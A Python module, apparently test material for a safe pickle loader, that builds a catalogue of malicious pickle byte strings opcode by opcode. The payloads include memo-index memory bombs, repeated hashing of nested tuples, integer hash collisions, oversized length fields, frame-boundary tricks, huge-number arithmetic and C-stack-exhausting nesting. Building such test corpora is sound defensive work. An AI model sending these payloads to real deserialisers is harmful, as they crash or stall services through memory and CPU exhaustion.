"""Pickles that take much more than they are: what each opcode could be misused for.

Built opcode by opcode, for no value pickles to one of them.
"""

from __future__ import annotations

import struct

P = 2**61 - 1  # what hashes of integers are reduced by


def text(value: str) -> bytes:
    """A str of up to 255 bytes."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def long(value: int) -> bytes:
    """An int of any size."""
    data = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8b" + struct.pack("<I", len(data)) + data


def short(value: int) -> bytes:
    """An int of up to 255 bytes."""
    data = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def name(module: str, attribute: str) -> bytes:
    """What find_class gives."""
    return f"c{module}\n{attribute}\n".encode()


def put(index: int) -> bytes:
    """Keep the top of the stack."""
    return b"r" + struct.pack("<I", index)


def get(index: int) -> bytes:
    """Push what was kept."""
    return b"j" + struct.pack("<I", index)


def doubled(n: int, make: bytes = b"\x86") -> bytes:
    """(t, t) of (t, t) of ... a value that is on the stack."""
    return (b"2" + make) * n


def as_key(value: bytes) -> bytes:
    """A dict with one key."""
    return b"}" + value + b"Ns."


def as_item(value: bytes) -> bytes:
    """A set of one item, of protocol 4."""
    return b"\x8f(" + value + b"\x90."


def call(module: str, attribute: str, args: bytes) -> bytes:
    """The call of a name with the items of a tuple."""
    return name(module, attribute) + b"(" + args + b"tR"


def many(item: bytes, n: int, before: bytes = b"") -> bytes:
    """A list of so many of the same."""
    return before + b"](" + item * n + b"e."


def repeated_calls(module: str, attribute: str, args: bytes, n: int) -> bytes:
    """A list of the results of the same call."""
    before = name(module, attribute) + put(0) + b"0(" + args + b"t" + put(1) + b"0"
    return many(get(0) + get(1) + b"R", n, before)


def list_of(items: bytes) -> bytes:
    """A list."""
    return b"](" + items + b"e"


def colliding(n: int) -> bytes:
    """Different ints of hash 0."""
    return b"".join(short(P * i) for i in range(1, n + 1))


def colliding_pairs(n: int) -> bytes:
    """The same as keys, with values."""
    return b"".join(short(P * i) + b"N" for i in range(1, n + 1))


SLOT = b"r" + struct.pack("<I", (1 << 29) - 1)
DEEP = b")" + b"\x85" * 200_000
UUID = name("uuid", "UUID") + b")\x81"
STATE = b"}" + text("int")

BOMBS: dict[str, bytes] = {
    # the memo has room up to the highest index
    "memo": b"N" + SLOT + b"0N.",
    "memo in text": b"Np536870911\n.",
    "memo in long text": b"Np" + b"9" * 500_000 + b"\n.",
    "memo read in long text": b"g" + b"9" * 500_000 + b"\n.",
    # what is hashed is walked through again and again
    "key": as_key(b")" + doubled(60)),
    "key of three": as_key(b")" + b"22\x87" * 40),
    "item": as_item(b")" + doubled(60)),
    "frozen item": b"()" + doubled(60) + b"\x91.",
    "dict of a mark": b"()" + doubled(60) + b"Nd.",
    "keys of a mark": b"}()" + doubled(60) + b"Nu.",
    "key by memo": as_key(
        b")" + b"".join(put(i) + get(i) + b"\x86" for i in range(60))
    ),
    "set": call("builtins", "set", list_of(b")" + doubled(60))) + b".",
    "frozenset": call("builtins", "frozenset", list_of(b")" + doubled(60))) + b".",
    "set of a tuple": call("builtins", "set", b"(" + b")" + doubled(60) + b"t") + b".",
    "Counter": call("collections", "Counter", list_of(b")" + doubled(60))) + b".",
    "OrderedDict": call(
        "collections", "OrderedDict", list_of(b")" + doubled(60) + b"N\x86")
    )
    + b".",
    "OrderedDict of lists": call(
        "collections", "OrderedDict", list_of(list_of(b")" + doubled(60) + b"N"))
    )
    + b".",
    "UUID that holds a tuple": as_key(UUID + STATE + b")" + doubled(60) + b"sb"),
    "UUID filled in late": (
        UUID
        + put(0)
        + doubled(30)
        + put(1)
        + b"0"
        + get(0)
        + STATE
        + b")"
        + doubled(30)
        + b"sb0"
        + as_key(get(1))
    ),
    # (the pair below, filled by an instruction that fails only after hashing)
    "key put into a tuple": b")" + doubled(30) + b"2" + doubled(3) + b"2s.",
    "same key many times": (
        b")" + doubled(14) + put(0) + b"0}(" + (get(0) + b"N") * 100_000 + b"u."
    ),
    "big int many times": (
        long(1 << 3_000_000) + put(0) + b"0}(" + (get(0) + b"N") * 100_000 + b"u."
    ),
    "long text, twice": (
        b"}X"
        + struct.pack("<I", 400_000)
        + b"a" * 400_000
        + b"NsX"
        + struct.pack("<I", 400_000)
        + b"a" * 400_000
        + put(0)
        + b"0("
        + (get(0) + b"N") * 100_000
        + b"u."
    ),
    # keys that have one hash
    "colliding keys": b"}(" + colliding_pairs(40_000) + b"u.",
    "colliding keys one by one": b"}"
    + b"".join(short(P * i) + b"Ns" for i in range(40_000))
    + b".",
    "colliding keys of a mark": b"(" + colliding_pairs(40_000) + b"d.",
    "colliding items": b"\x8f(" + colliding(40_000) + b"\x90.",
    "colliding frozen items": b"(" + colliding(40_000) + b"\x91.",
    "colliding set": call("builtins", "set", list_of(colliding(40_000))) + b".",
    "colliding frozenset": call("builtins", "frozenset", list_of(colliding(40_000)))
    + b".",
    "colliding Counter": call("collections", "Counter", list_of(colliding(40_000)))
    + b".",
    "colliding OrderedDict": call(
        "collections",
        "OrderedDict",
        list_of(b"".join(short(P * i) + b"N\x86" for i in range(40_000))),
    )
    + b".",
    "colliding text": b"}("
    + b"".join(b"I%d\nN" % (P * i) for i in range(40_000))
    + b"u.",
    "colliding items of an OrderedDict": name("collections", "OrderedDict")
    + b")R("
    + colliding_pairs(40_000)
    + b"u.",
    # memory for what is not there
    "bytearray": b"\x96" + struct.pack("<Q", 3 << 30) + b".",
    "bytes": b"\x8e" + struct.pack("<Q", 3 << 30) + b".",
    "str": b"\x8d" + struct.pack("<Q", 3 << 30) + b".",
    "int": b"\x8b" + struct.pack("<I", 0x7FFFFFFF) + b".",
    "frame": b"\x80\x04\x95" + struct.pack("<Q", 3 << 30) + b"N.",
    # Python drops what is left of a frame when it needs more, and reads on behind it:
    # it would make 4 GB of what looks like 16 bytes, and of what looks like 150
    "frame that ends in a size": b"\x80\x05\x95"
    + struct.pack("<Q", 5)
    + b"\x96"
    + struct.pack("<Q", 16)
    + b"\1".ljust(16, b"\0")
    + b".",
    "frame that ends in a frame": b"\x80\x05\x95"
    + struct.pack("<Q", 10)
    + b"\x95"
    + struct.pack("<Q", 152)
    + b"C\x96"
    + struct.pack("<Q", 1 << 32).ljust(150, b"\0")
    + b".",
    "bytes of a number": call("builtins", "bytes", b"J\xff\xff\xff\x7f") + b".",
    "bytearray of a number": call("builtins", "bytearray", b"J\xff\xff\xff\x7f") + b".",
    "set of a range": call(
        "builtins", "set", call("builtins", "range", b"J\xff\xff\xff\x7f")
    )
    + b".",
    "deque of a range": call(
        "collections", "deque", call("builtins", "range", b"J\xff\xff\xff\x7f")
    )
    + b".",
    "empty sets": many(b"\x8f", 900_000),
    "sets of one list": repeated_calls(
        "builtins", "set", list_of(b"K\1" * 50_000), 50_000
    ),
    "deques of one list": repeated_calls(
        "collections", "deque", list_of(b"K\1" * 50_000), 50_000
    ),
    "copies of one text": repeated_calls(
        "_codecs",
        "encode",
        b"X" + struct.pack("<I", 200_000) + b"a" * 200_000 + text("latin1"),
        50_000,
    ),
    "states": UUID
    + put(0)
    + b"0}("
    + b"".join(text(f"k{i}") + b"N" for i in range(20_000))
    + b"u"
    + put(1)
    + b"0"
    + (get(0) + get(1) + b"b0") * 50_000
    + b"N.",
    # arithmetic
    "digits": b"I" + b"9" * 900_000 + b"\n.",
    "long digits": b"L" + b"9" * 900_000 + b"L\n.",
    "fraction": call("fractions", "Fraction", long(3**2_000_000) + long(5**1_300_000))
    + b".",
    "fraction of text": call(
        "fractions", "Fraction", b"X" + struct.pack("<I", 900_000) + b"9" * 900_000
    )
    + b".",
    "fraction of an exponent": call("fractions", "Fraction", text("1e999999999"))
    + b".",
    "decimal of an int": call("decimal", "Decimal", long(1 << 7_000_000)) + b".",
    "range": call("builtins", "range", b"K\0" + long(3**2_000_000) + long(5**700_000))
    + b".",
    "punycode": call(
        "builtins",
        "bytearray",
        b"X" + struct.pack("<I", 900_000) + "é".encode() * 450_000 + text("punycode"),
    )
    + b".",
    # the stack of C
    "deep key": as_key(DEEP),
    "deep": DEEP + b".",
    "deep and dropped": DEEP + b"0N.",
    # lists that the look before loading keeps for itself
    "call of calls": name("builtins", "set")
    + put(0)
    + b"]"
    + put(1)
    + (get(0) + get(1) + get(1) + b"\x86R" + put(1)) * 60
    + b".",
    "call of calls with keywords": name("builtins", "set")
    + put(0)
    + b"]"
    + put(1)
    + (get(0) + get(1) + get(1) + b"\x92" + put(1)) * 60
    + b".",
    # what else finds objects
    "extension": b"\x82\x01.",
    "extension of two": b"\x83\x01\x00.",
    "extension of four": b"\x84\x01\x00\x00\x00.",
    "persistent": b"Px\n.",
    "binary persistent": b"NQ.",
    "buffer": b"\x97.",
    "change of a class": name("uuid", "UUID") + b"N}" + text("x") + b"Ns\x86b.",
    "call of an instance": b"K\1)R.",
}
